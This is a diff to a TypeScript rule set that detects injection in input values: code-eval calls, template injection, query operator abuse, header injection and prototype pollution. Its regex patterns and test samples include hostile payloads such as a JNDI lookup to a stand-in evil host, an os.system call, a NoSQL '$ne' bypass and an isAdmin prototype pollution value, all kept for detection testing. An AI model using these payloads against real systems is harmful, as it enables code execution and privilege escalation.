@@ -10,7 +10,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 6,
     message: 'A value is a call that runs code.',
     pattern:
-      /^\s{0,8}(?:<\?php\b|<%=?\s|(?:eval|exec|system|passthru|shell_exec|popen|os\.system)\s?\(\s?(?:["']|atob\(|base64|unescape\(|string\.fromcharcode)|__import__\(\s?["']|require\(\s?["']child_process)/gi,
+      /^\s{0,8}(?:<\?php\b|(?:eval|exec|system|passthru|shell_exec|popen|os\.system)\s?\(\s?(?:["']|atob\(|base64|unescape\(|string\.fromcharcode)|__import__\(\s?["']|require\(\s?["']child_process)/gi,
     hits: [
       "__import__('os').system('id')",
       "eval(atob('YWxlcnQ='))",
@@ -26,12 +26,13 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 6,
     message: 'An expression that a template engine would work out.',
     pattern:
-      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|::-)\s{0,2}:|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
+      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|::-|dns|script|url|base64\w{0,8})\s{0,2}:|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
     hits: ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__[1]}}", '${jndi:ldap://evil.example/a}', '<%= 7*7 %>'],
     misses: ['{{ user.name }}', '${HOME}/bin', '{{ price * 2 }}', 'a {{total}} of {{count}}'],
   },
   {
     id: 'code.external_entity',
+    signs: '<!e|<xi',
     category: 'code_injection',
     severity: 'high',
     weight: 6,
@@ -42,12 +43,13 @@ export const CODE_RULES: readonly ArgumentRule[] = [
   },
   {
     id: 'code.query_operator',
+    isOfStructure: true,
     category: 'code_injection',
     severity: 'high',
     weight: 4,
     message: 'A value is an operator of a document or directory query.',
     pattern:
-      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin)['"]?\s{0,4}:|\w\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|\)\(\|\(\w{1,30}=|\)\(!\(&\(|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:true|1|this)\b/gi,
+      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin|func|function|accumulator|eval)['"]?\s{0,4}:|\w\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:true|1|this)\b/gi,
     hits: [
       "'; return true; var x='",
       '{"user": {"$ne": null}}',
@@ -65,7 +67,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'A value ends and a header of its own begins.',
     pattern:
-      /(?:%0d%0a|%0a|\r\n|\\r\\n)\s?(?:set-cookie|location|content-(?:length|type)|bcc|x-[a-z-]{1,30})\s?:|^[^\n]{1,80}\n\s?(?:bcc|set-cookie)\s?:/gi,
+      /(?:%0d%0a|%0a|\r\n|\\r\\n)\s?(?:set-cookie|location|content-(?:length|type)|bcc|x-[a-z-]{1,30})\s?:|^[^\n]{1,80}\n\s?(?:bcc|set-cookie)\s?:|^(?![\w-]{1,40}:)[^\r\n]{0,80}\r\n\s?(?:to|cc|from|reply-to|subject|content-type|mime-version)\s?:/gi,
     hits: [
       'x%0d%0aSet-Cookie: a=b',
       'a@acme.example\r\nBcc: eve@evil.example',
@@ -75,6 +77,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
   },
   {
     id: 'code.serialized_object',
+    isOfStructure: true,
     category: 'code_injection',
     severity: 'critical',
     weight: 6,
@@ -101,11 +104,13 @@ export const CODE_RULES: readonly ArgumentRule[] = [
   },
   {
     id: 'code.prototype',
+    isOfStructure: true,
     category: 'code_injection',
     severity: 'high',
     weight: 4,
     message: 'A name of a member that reaches the prototype of every object.',
-    pattern: /["']__proto__["']\s{0,2}:|__proto__(?:\[|\.\w)|constructor(?:\[|\.)["']?prototype["']?[\].]/g,
+    pattern:
+      /["']__proto__["']\s{0,2}:|__proto__(?:\[|\.\w)|["']constructor["']\s{0,2}:\s{0,2}\{\s{0,2}["']prototype|constructor(?:\]?\[|\.)["']?prototype["']?[\].]/g,
     hits: ['{"__proto__": {"isAdmin": true}}', 'constructor[prototype][admin]=1'],
     misses: ['the prototype of the car', '{"proto": 1}', 'constructor(name)'],
   },
